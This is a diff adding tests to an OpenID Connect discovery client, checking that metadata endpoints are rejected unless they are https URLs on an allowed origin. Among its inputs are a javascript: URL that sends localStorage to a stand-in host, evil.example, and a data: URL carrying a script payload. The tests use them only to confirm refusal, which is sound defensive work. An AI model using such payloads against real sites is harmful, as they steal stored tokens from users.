@@ -134,7 +134,7 @@ describe("Discovery", () => {
   it.effect("fetches the JWKS from jwks_uri, caches it, and fetches again with forceRefresh", () =>
     Effect.gen(function* () {
       const server = yield* scriptedServer({ metadata: { jwks_uri: "https://keys.example.test/certs" } })
-      const discovery = yield* discoveryOf(server)
+      const discovery = yield* discoveryOf(server, { allowedEndpointOrigins: ["https://keys.example.test/"] })
       const first = yield* discovery.jwks({ forceRefresh: false })
       expect(first.keys.map((key) => key["kid"])).toEqual([server.minter.currentKid])
       const jwksRequests = server.requestsTo("jwks")
@@ -175,4 +175,51 @@ describe("Discovery", () => {
       expect((error as MonoCloudHttpError).endpoint).toBe("jwks")
     })
   )
+
+  describe("endpoint rules", () => {
+    const refusal = (metadata: Record<string, unknown>, overrides: Parameters<typeof engineLayer>[1] = {}) =>
+      Effect.gen(function* () {
+        const server = yield* scriptedServer({ metadata })
+        const error = yield* Effect.flip((yield* discoveryOf(server, overrides)).metadata)
+        expect(error._tag).toBe("MonoCloudValidationError")
+        return error as MonoCloudValidationError
+      })
+
+    it.effect("refuses an endpoint that is not an https URL, naming the member", () =>
+      Effect.gen(function* () {
+        for (const [member, value] of [
+          ["authorization_endpoint", "javascript:fetch('https://evil.example/?'+localStorage)"],
+          ["end_session_endpoint", "data:text/html,<script>alert(1)</script>"],
+          ["token_endpoint", "http://op.example.test/token"],
+          ["jwks_uri", "http://op.example.test/jwks"],
+          ["userinfo_endpoint", "ftp://op.example.test/userinfo"]
+        ] as const) {
+          const error = yield* refusal({ [member]: value })
+          expect(error.check).toBe("discovery")
+          expect(error.message).toContain(member)
+          expect(error.message).toContain("https")
+        }
+      })
+    )
+
+    it.effect("refuses an endpoint on another origin unless allowedEndpointOrigins lists it", () =>
+      Effect.gen(function* () {
+        const elsewhere = { token_endpoint: "https://collector.example/token" }
+        const error = yield* refusal(elsewhere)
+        expect(error.check).toBe("discovery")
+        expect(error.message).toContain("token_endpoint")
+        expect(error.message).toContain("origin")
+        const server = yield* scriptedServer({ metadata: elsewhere })
+        const allowed = yield* discoveryOf(server, { allowedEndpointOrigins: ["https://collector.example"] })
+        expect((yield* allowed.metadata).token_endpoint).toBe("https://collector.example/token")
+      })
+    )
+
+    it.effect("accepts plain http endpoints only under a local http issuer", () =>
+      Effect.gen(function* () {
+        const server = yield* scriptedServer({ issuer: "http://localhost:3001" })
+        expect((yield* (yield* discoveryOf(server)).metadata).token_endpoint).toBe("http://localhost:3001/token")
+      })
+    )
+  })
 })
